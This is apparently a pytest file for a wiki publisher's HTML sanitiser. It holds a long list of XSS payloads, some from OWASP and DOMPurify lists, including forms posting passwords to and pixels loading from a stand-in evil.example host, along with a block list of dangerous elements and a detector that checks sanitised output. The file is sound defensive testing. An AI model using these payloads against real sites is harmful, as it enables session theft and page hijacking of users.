"""`wikigen.publish.sanitise`: what HTML may pass, by the trust its author has."""

from __future__ import annotations

import re
from collections.abc import Iterator
from urllib.parse import urlsplit

import pytest
from hypothesis import given
from hypothesis import strategies as st
from lxml import html as lxml_html

from tests.strategies import markdown
from wikigen.publish.body import compose, raw_body
from wikigen.publish.engine import GfmEngine, MarkdownEngine
from wikigen.publish.rewrite import MISSING_SCHEME, Rewritten
from wikigen.publish.sanitise import sanitise_page, sanitise_raw

BANNED = {
    "script", "style", "svg", "math", "iframe", "frame", "frameset", "object", "embed", "applet", "form", "button", "select", "textarea",
    "option", "base", "meta", "link", "title", "template", "noscript", "xmp", "plaintext", "noembed", "noframes", "marquee", "portal", "dialog",
    "slot", "foreignobject", "animate", "set", "use", "annotation-xml", "mtext", "mglyph", "isindex", "keygen", "bgsound", "layer", "param",
}  # fmt: skip
"""Elements that run, load, or change how the rest is read."""
MATERIAL = {"__config", "__search", "__drawer", "__toc", "__consent", "__palette_0"}
"""Ids that Material's scripts look for."""
SCHEMES = {"", "http", "https", "mailto", "tel", MISSING_SCHEME}

ATTACKS = (
    # scripts and handlers
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script\x0d\n>alert(1)</script>",
    "<script/x>alert(1)</script>",
    "<<script>alert(1)//<</script>",
    "<img src=x onerror=alert(1)>",
    "<img src=x oneonerrorrror=alert(1) onerror=alert(1)>",
    '<img src="x`" `onerror=alert(1)>',
    "<img/src/onerror=alert(1)>",
    "<p onclick='alert(1)'>x</p>",
    '<a href="https://a.example" onmouseover=alert(1)>x</a>',
    '<div onpointerrawupdate="alert(1)">x</div>',
    "<details open ontoggle=alert(1)>x</details>",
    "<input autofocus onfocus=alert(1)>",
    "<body onload=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    '<marquee onstart="alert(1)">x</marquee>',
    # schemes
    '<a href="javascript:alert(1)">x</a>',
    '<a href="JaVaScRiPt:alert(1)">x</a>',
    '<a href=" \x01javascript:alert(1)">x</a>',
    '<a href="java\tscript:alert(1)">x</a>',
    '<a href="java&#10;script:alert(1)">x</a>',
    '<a href="&#106;avascript:alert(1)">x</a>',
    '<a href="javascript&colon;alert(1)">x</a>',
    '<a href="vbscript:msgbox(1)">x</a>',
    '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    '<a href="file:///etc/passwd">x</a>',
    '<a href="blob:https://a.example/1">x</a>',
    '<img src="javascript:alert(1)">',
    '<form action="javascript:alert(1)"><input type=submit></form>',
    "[x](javascript:alert(1))",
    "[x](data:text/html,x)",
    "[x](<java\tscript:alert(1)>)",
    "![x](javascript:alert(1))",
    "<javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    # namespaces, frames, resources
    "<svg onload=alert(1)></svg>",
    "<svg><script>alert(1)</script></svg>",
    '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    '<svg><use href="data:image/svg+xml,x"/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x></svg>",
    '<math href="javascript:alert(1)">x</math>',
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "<iframe src=https://evil.example></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=https://evil.example/x.swf></object>",
    "<embed src=https://evil.example/x.swf>",
    "<applet code=x></applet>",
    "<link rel=stylesheet href=https://evil.example/x.css>",
    "<meta http-equiv=refresh content='0;url=https://evil.example'>",
    "<base href=https://evil.example/>",
    "<form action=https://evil.example><input name=password></form>",
    "<button formaction=https://evil.example>x</button>",
    "<textarea><script>alert(1)</script></textarea>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<xmp><script>alert(1)</script></xmp>",
    "<title><img src=x onerror=alert(1)></title>",
    "<plaintext><script>alert(1)</script>",
    # style and layout
    "<style>@import 'https://evil.example/x.css'</style>",
    "<style>body{display:none}</style>",
    "<p style=\"background:url(https://evil.example/x)\">x</p>",
    "<td style='position:fixed;inset:0'>x</td>",
    "<table background=https://evil.example/x.png><tr><td>x</td></tr></table>",
    "<div style='position:fixed;top:0;left:0;width:100%;height:100%'>x</div>",
    # Material's own
    "<div id=__config>{\"base\": \"https://evil.example\"}</div>",
    "<h2 id=__search>x</h2>",
    "<p id='__drawer' class='md-overlay'>x</p>",
    "<script id=__config type=application/json>{}</script>",
    "<label for=__search>x</label>",
    "<div data-md-component=search>x</div>",
    "<div class='md-dialog md-dialog--active'>x</div>",
    # comments and broken markup
    "<!--<img src=\"--><img src=x onerror=alert(1)//\">",
    "<!--[if gte IE 4]><script>alert(1)</script><![endif]-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?php echo '<script>alert(1)</script>' ?>",
    "<p title=\"</p><script>alert(1)</script>\">x</p>",
    "<a href='x' title='\"><script>alert(1)</script>'>x</a>",
    "\"><img src=x onerror=alert(1)>",
    "</article></main><script>alert(1)</script>",
    "<img src=x:x onerror\x0c=alert(1)>",
    "> [!note] <img src=x onerror=alert(1)>\n> x",
    "[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "# <img src=x onerror=alert(1)>",
    "| <script>alert(1)</script> |\n|---|\n| <img src=x onerror=alert(1)> |",
    "```<img/src=x/onerror=alert(1)>\nx\n```",
    "`<script>alert(1)</script>`",
    # images elsewhere
    "<img src=https://evil.example/pixel.png>",
    "<img src=//evil.example/pixel.png>",
    "<img srcset='https://evil.example/pixel.png 1x' src=a.png>",
    "<picture><source srcset=https://evil.example/pixel.png><img src=a.png></picture>",
    "<video poster=https://evil.example/x.png></video>",
    "<input type=image src=https://evil.example/x.png>",
)
"""Strings that do harm where they come through; many are from OWASP's and DOMPurify's lists."""

GFM, EXTENDED = GfmEngine(), MarkdownEngine(["toc", "tables", "fenced_code", "footnotes", "attr_list", "md_in_html", "admonition"], {})
TOKEN = "wgs" + "0" * 18


def trusted(text: str) -> str:
    """What a page that the configuration trusts publishes of a text: the attack itself."""
    return compose(text, _unwritten(text), GFM, trusted=True, related=lambda _: "").html


def untrusted(text: str, *, extended: bool = False) -> str:
    """What any other page publishes of it."""
    return compose(text, _unwritten(text), EXTENDED if extended else GFM, trusted=False, related=lambda _: "").html


def _unwritten(text: str) -> Rewritten:
    return Rewritten(markdown=text, token=TOKEN, slots=(), title_anchor="")


LEVELS = {"T2": untrusted, "T2 extended": lambda text: untrusted(text, extended=True), "T3": raw_body}
"""Every way to untrusted HTML."""


def harms(html: str, *, images: bool = False) -> Iterator[str]:
    """Everything in published HTML that could run, load, or take the place of Material's own."""
    document = lxml_html.document_fromstring(f"<html><body><div>{html}</div></body></html>")
    for element in document.body.iter():
        if not isinstance(element.tag, str):
            yield f"a comment or instruction: {element!r}"
            continue
        tag = element.tag.lower().rpartition("}")[2].rpartition(":")[2]
        if tag in BANNED:
            yield f"<{tag}>"
        for name, value in element.attrib.items():
            plain = re.sub(r"[\x00-\x20]", "", value)
            if name.startswith("on") or name in {"srcdoc", "srcset", "formaction", "action", "background", "ping", "http-equiv", "is", "slot"}:
                yield f"{tag} {name}={value}"
            if name in {"href", "src", "poster", "data", "cite", "xlink:href"} and urlsplit(plain).scheme.lower() not in SCHEMES:
                yield f"{tag} {name}={value}"
            if name in {"src", "poster", "data"} and (images or re.match(r"(?:https?:)?[/\\]{2}", plain)):
                yield f"{tag} {name}={value}"
            if name == "style" and not re.fullmatch(r"\s*text-align\s*:\s*(?:left|right|center|justify)\s*;?\s*", value):
                yield f"{tag} style={value}"
            if name in {"id", "for", "name"} and (value in MATERIAL or re.match(r"__(?!tabbed_\d|\d+$)", value)):
                yield f"{tag} {name}={value}"
            if name.startswith("data-md"):
                yield f"{tag} {name}={value}"
            if name == "class" and re.search(r"(?:^|\s)md-(?!button)", value):
                yield f"{tag} class={value}"
        if tag == "input" and element.get("type") not in {"checkbox", "radio"}:
            yield f"input {element.get('type')}"


SHOWN_ELSEWHERE = {
    "<javascript:alert(1)>", "[x](javascript:alert(1))", "[x](data:text/html,x)", "[x](<java\tscript:alert(1)>)", "![x](javascript:alert(1))",
    "[x]: javascript:alert(1)\n\n[x]",
}  # fmt: skip
"""Attacks in Markdown's own links, which engines turn into `href`."""
HARMLESS_AS_WRITTEN = {
    "`<script>alert(1)</script>`", "```<img/src=x/onerror=alert(1)>\nx\n```", '<img src="x`" `onerror=alert(1)>', "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<script/x>alert(1)</script>", "<title><img src=x onerror=alert(1)></title>", "<![CDATA[<script>alert(1)</script>]]>",
}  # fmt: skip
"""Strings that are text to a Markdown engine; they stand here so that no other engine makes more of them."""


def test_the_table_is_long_enough() -> None:
    """There are at least sixty attacks, each one once."""
    assert len(ATTACKS) == len(set(ATTACKS)) >= 60


@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_are_real(attack: str) -> None:
    """Without the sanitiser each attack is in the page, so that its absence means something."""
    found = list(harms(trusted(attack)))
    assert found or attack in HARMLESS_AS_WRITTEN


@pytest.mark.parametrize("level", LEVELS)
@pytest.mark.parametrize("attack", ATTACKS)
def test_attacks_do_nothing(attack: str, level: str) -> None:
    """At no level does an attack leave anything that runs, loads from elsewhere, or takes the place of Material's own."""
    made = LEVELS[level](attack)
    assert list(harms(made, images=level == "T3")) == []
    assert list(harms(LEVELS[level](f"A paragraph with {attack} within.\n\n- {attack}\n"), images=level == "T3")) == []
